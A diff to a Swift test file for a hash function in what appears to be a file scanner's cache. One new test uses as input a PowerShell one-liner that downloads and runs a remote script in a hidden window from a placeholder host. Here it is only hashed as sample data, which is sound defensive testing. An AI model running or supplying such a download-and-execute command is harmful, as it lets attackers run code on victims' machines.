@@ -48,10 +48,23 @@ import Testing
     @Test func hashesTellNearValuesApart() {
         var seen = Set<UInt64>()
         for i in 0..<10_000 {
-            withBytes("C:\\Users\\user\(i)\\AppData\\Local\\Temp\\a.exe") { seen.insert(ScanCache.hash($0)) }
+            withBytes("C:\\Users\\user\\AppData\\Local\\Temp\\a\(i).exe") { seen.insert(ScanCache.hash($0)) }
         }
         #expect(seen.count == 10_000)
         // Never 0 (an empty entry), even for empty input.
         #expect(ScanCache.hash(UnsafeRawBufferPointer(start: nil, count: 0)) != 0)
+        #expect(ScanCache.hash(UnsafeRawBufferPointer(start: nil, count: 0)) != withBytes("a") { ScanCache.hash($0) })
+    }
+
+    @Test func everyByteCounts() {
+        // A change anywhere (each lane, the last words, the last bytes) changes the hash.
+        let a = "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://x/a.ps1') #AAAA!"
+        let base = withBytes(a) { ScanCache.hash($0) }
+        let units = Array(a.utf16)
+        for position in units.indices {
+            var changed = units
+            changed[position] ^= 0x01
+            #expect(changed.withUnsafeBytes { ScanCache.hash($0) } != base, "character \(position)")
+        }
     }
 }
